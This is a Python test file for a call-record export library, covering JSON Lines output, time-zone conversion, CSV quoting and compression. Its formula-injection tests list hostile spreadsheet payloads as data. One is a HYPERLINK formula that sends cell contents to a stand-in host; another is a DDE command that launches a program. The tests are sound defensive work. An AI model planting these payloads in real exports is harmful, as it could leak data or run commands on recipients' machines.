"""Files of calls, part by part: the same bytes as get prints, and rows that no spreadsheet runs."""

from __future__ import annotations

import csv
import gzip
import io
import itertools
import json
import re
from collections.abc import Sequence
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import msgspec
import pytest
import zstandard
from hypothesis import example, given
from hypothesis import strategies as st
from msgspec import UNSET, structs

from tests.strategies import calls
from trunkline.kit.export import COMPRESSIONS, FORMATS
from trunkline.kit.export.shape import Shape, in_zone
from trunkline.kit.export.table import COLUMNS, guarded
from trunkline.kit.losses import full_call
from trunkline.kit.transcript import as_text
from trunkline.model.call import Agent, Call, Contact, Cost, Turn, Verbatim
from trunkline.model.encoded_call import EncodedCall
from trunkline.model.words import Role, Status
from trunkline.vendors.trunkline.filters import EVERYTHING
from trunkline.vendors.trunkline.render import left_out, shown

encode = msgspec.json.Encoder(decimal_format="number").encode
INCLUDES = [frozenset(some) for size in range(4) for some in itertools.combinations(sorted(EVERYTHING), size)]
SHAPES = {
    include: Shape(absent=left_out(include), words="words" in include)
    for include in INCLUDES
    if "words" not in include or "turns" in include  # words bring turns along before it comes to this
}
WHOLE = Shape()
PARIS = ZoneInfo("Europe/Paris")


def file(name: str, some: Sequence[Call], shape: Shape = WHOLE) -> bytes:
    writer = FORMATS[name].writer(shape)
    return writer.begin() + b"".join(writer.rows([EncodedCall.of(call)]) for call in some) + writer.end()


def table(some: Sequence[Call], shape: Shape = WHOLE) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(file("csv", some, shape).decode(), newline="")))


def bare(**fields: Any) -> Call:
    must = {"id": "5f0c9c5e-2f5e-4a52-9d4b-111111111111", "vendor": "elsewhere", "vendor_call_id": "1"}
    created_at = datetime(2026, 1, 1, 11, 30, tzinfo=UTC)
    return Call(**{**must, "status": Status.COMPLETED, "created_at": created_at, **fields})


def with_verbatim(call: Call) -> Call:
    kept = {"duration": Verbatim("a", "2"), "transcript": Verbatim("b", ["Hi"], apart=True)}
    return structs.replace(call, verbatim=kept)


# -- pieces ---------------------------------------------------------------


@given(call=calls() | calls().map(with_verbatim))
@example(call=full_call())
@example(call=bare())
def test_a_split_call_is_the_same_call(call: Call) -> None:
    pieces = EncodedCall.of(call)
    assert pieces.call() == call
    assert encode(pieces.raw()) == encode(call)


def test_a_field_that_is_younger_than_the_document_is_null() -> None:
    light = json.loads(EncodedCall.of(bare()).summary)
    del light["trace_id"]
    old = EncodedCall(json.dumps(light))
    assert encode(old.raw()) == encode(old.call()) == encode(bare())


# -- JSON Lines -----------------------------------------------------------


@given(some=st.lists(calls() | calls().map(with_verbatim), max_size=3))
@example(some=[full_call(), bare()])
def test_a_line_is_what_get_prints_whatever_is_included(some: list[Call]) -> None:
    for include, shape in SHAPES.items():
        printed = b"".join(encode(shown(call, include)) + b"\n" for call in some)
        assert file("jsonl", some, shape) == printed


@given(some=st.lists(calls(), max_size=3))
def test_a_line_in_another_zone_states_the_same_instants(some: list[Call]) -> None:
    lines = file("jsonl", some, Shape(zone=PARIS)).splitlines()
    assert [msgspec.json.decode(line, type=Call) for line in lines] == some
    for line, call in zip(lines, some, strict=True):
        assert json.loads(line)["created_at"] == call.created_at.astimezone(PARIS).isoformat()


# -- instants -------------------------------------------------------------


@pytest.mark.parametrize(
    ("instant", "zone", "printed"),
    [
        ("2026-01-01T11:30:00Z", "Europe/Paris", "2026-01-01T12:30:00+01:00"),
        ("2026-07-01T11:30:00Z", "Europe/Paris", "2026-07-01T13:30:00+02:00"),
        ("2026-03-29T00:59:59.5Z", "Europe/Paris", "2026-03-29T01:59:59.500000+01:00"),
        ("2026-03-29T01:00:00Z", "Europe/Paris", "2026-03-29T03:00:00+02:00"),
        ("2026-01-01T11:30:00Z", "America/New_York", "2026-01-01T06:30:00-05:00"),
        ("2026-01-01T11:30:00Z", "Asia/Kathmandu", "2026-01-01T17:15:00+05:45"),
        ("2026-01-01T11:30:00Z", "Europe/London", "2026-01-01T11:30:00Z"),
        ("2026-01-01T11:30:00Z", "UTC", "2026-01-01T11:30:00Z"),
        ("1850-01-01T00:00:00Z", "Europe/Paris", "1850-01-01T00:00:00Z"),
        ("0001-01-01T00:00:00Z", "America/New_York", "0001-01-01T00:00:00Z"),
        ("9999-12-31T23:59:59Z", "Asia/Tokyo", "9999-12-31T23:59:59Z"),
    ],
)
def test_instants_by_the_clocks_of_a_zone(instant: str, zone: str, printed: str) -> None:
    call = bare(created_at=datetime.fromisoformat(instant))
    shape = Shape(zone=ZoneInfo(zone))
    assert json.loads(file("jsonl", [call], shape))["created_at"] == printed
    assert table([call], shape)[0]["created_at"] == printed
    assert in_zone(call.created_at, ZoneInfo(zone)) == call.created_at


# -- CSV ------------------------------------------------------------------


def test_there_is_a_column_for_every_field_and_part_of_a_call() -> None:
    assert [column.name for column in COLUMNS][:5] == [
        "id",
        "vendor",
        "vendor_call_id",
        "trace_id",
        "direction",
    ]
    fields = dict.fromkeys(column.field for column in COLUMNS)
    assert tuple(fields) == Call.__struct_fields__
    names = {column.name for column in COLUMNS}
    assert {"agent.id", "contact.full_name", "analysis.summary", "cost.amount", "transcript"} <= names
    assert len(names) == len(COLUMNS)


def test_a_full_call_as_a_row() -> None:
    call = full_call()
    (row,) = table([call])
    assert call.agent is not None
    assert call.cost is not None
    assert call.analysis is not None
    assert row["id"] == call.id
    assert row["status"] == call.status.value
    assert row["agent.id"] == call.agent.id
    assert row["duration_ms"] == str(call.duration_ms)
    assert row["cost.amount"] == str(call.cost.amount)
    assert row["analysis.success"] == str(call.analysis.success).lower()
    assert row["transcript"] == as_text(call)
    assert json.loads(row["metadata"]) == call.metadata
    assert json.loads(row["tool_calls"]) == msgspec.to_builtins(call.tool_calls)
    empty = [name for name, cell in row.items() if not cell]
    ours = ["recording.stored", "recording.original_url"]
    assert empty == [*ours, "vendor_words", "vendor_fields", "verbatim", "derived"]


@given(some=st.lists(calls() | calls().map(with_verbatim), min_size=1, max_size=3))
def test_every_row_reads_back_as_what_the_call_says(some: list[Call]) -> None:
    for row, call in zip(table(some), some, strict=True):
        assert None not in row
        for name, cell in row.items():
            assert cell == expected(name, call), name


def expected(name: str, call: Call) -> str:
    if name == "transcript":
        return guarded(as_text(call))
    value: Any = call
    for part in name.split("."):
        value = getattr(value, part) if value is not None else None
    if value is None or value is UNSET:
        return ""
    printed = json.loads(encode(value))
    return guarded(printed) if isinstance(printed, str) else encode(value).decode()


def test_what_is_not_included_has_no_column() -> None:
    (row,) = table([full_call()], Shape(absent=left_out(frozenset())))
    assert not {"transcript", "transcript_text", "events", "tool_calls"} & row.keys()
    (row,) = table([full_call()], Shape(absent=left_out(frozenset({"turns"}))))
    assert "transcript" in row
    assert "tool_calls" not in row


def test_lines_end_and_cells_are_quoted_as_rfc_4180_has_it() -> None:
    call = bare(contact=Contact(full_name='Ann "A", Lee\r\nJr'))
    text = file("csv", [call, bare()])
    head, first, second = text.replace(b"Lee\r\nJr", b"Lee Jr").removesuffix(b"\r\n").split(b"\r\n")
    assert head.count(b",") == second.count(b",") == len(COLUMNS) - 1
    assert b',"Ann ""A"", Lee Jr",' in first


RISKY = [
    *('=HYPERLINK("http://evil.test?"&A1)', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1:A9)"),
    *("\tabc", "\rabc", "\nabc", " =1+1", "\u00a0=1", "\ufeff=1", "\u200b=1", "'=1+1", "''@x", "' -1"),
    *("＝1+1", "＋1", "－1", "＠x", "=", "-", "+12025550100", "\x01=1", "\v+1"),
    *("\u202e=1+1", "\u180e=1+1", "\u2066@x", "\xad-1"),
]
HARMLESS = ["", "Hello", "O'Neil", "'t Hooft", "1-2", "a=b", "é", "  two", "{}", "(+1)", "#1", "日本", "|x"]


@pytest.mark.parametrize("text", RISKY)
def test_a_text_that_begins_like_a_formula_gets_an_apostrophe(text: str) -> None:
    call = bare(
        contact=Contact(full_name=text),
        agent=Agent(name=text),
        vendor_call_id=text,
        from_number=text,
        transcript_text=text,
    )
    (row,) = table([call])
    for name in ("contact.full_name", "agent.name", "vendor_call_id", "from_number", "transcript_text"):
        assert row[name] == f"'{text}", name


@pytest.mark.parametrize("text", HARMLESS)
def test_a_harmless_text_stays_as_it_is(text: str) -> None:
    (row,) = table([bare(contact=Contact(full_name=text))])
    assert row["contact.full_name"] == text


def test_a_number_is_no_formula() -> None:
    (row,) = table([bare(cost=Cost(amount=Decimal("-0.50")), duration_ms=-5)])
    assert (row["cost.amount"], row["duration_ms"]) == ("-0.50", "-5")


@given(text=st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00")))
@example(text="'=1")
@example(text="=1")
@example(text="'")
def test_the_apostrophe_can_be_removed_again(text: str) -> None:
    cell = guarded(text)
    back = cell[1:] if cell.startswith("'") and guarded(cell) != cell else cell
    assert back == text


@given(text=st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\x00")))
@example(text="'=1")
@example(text=" '-1")
def test_the_lines_in_the_docs_take_it_off(text: str) -> None:
    page = (Path(__file__).parents[2] / "docs" / "how-to" / "export.md").read_text(encoding="utf-8")
    (code,) = re.findall(r"```python\n(.*?)```", page, re.DOTALL)
    known: dict[str, Any] = {"re": re, "cell": guarded(text)}
    exec(code, known)  # noqa: S102
    assert known["text"] == text


def test_a_nul_becomes_the_replacement_character() -> None:
    said = [Turn(Role.USER, "a\0b")]
    (row,) = table([bare(contact=Contact(full_name="\0=1"), turns=said, metadata={"a": "\0"})])
    assert row["contact.full_name"] == "\ufffd=1"
    assert row["transcript"] == "User: a\ufffdb"
    assert json.loads(row["metadata"]) == {"a": "\0"}


# -- compression ----------------------------------------------------------


def unpacked(name: str, packed: bytes) -> bytes:
    match name:
        case "gzip":
            return gzip.decompress(packed)
        case "zstd":
            return zstandard.ZstdDecompressor().decompressobj().decompress(packed)
    return packed


@pytest.mark.parametrize("name", COMPRESSIONS)
@given(pieces=st.lists(st.binary(max_size=200)))
def test_what_is_packed_piece_by_piece_is_unpacked_whole(name: str, pieces: list[bytes]) -> None:
    packer = COMPRESSIONS[name].open()
    packed = b"".join([*map(packer.compress, pieces), packer.flush()])
    assert unpacked(name, packed) == b"".join(pieces)
    assert COMPRESSIONS[name].compresses == (name != "none")


def test_the_same_calls_make_the_same_gzip_file() -> None:
    packed = [
        packer.compress(b"abc") + packer.flush() for packer in (COMPRESSIONS["gzip"].open() for _ in "12")
    ]
    assert packed[0] == packed[1]
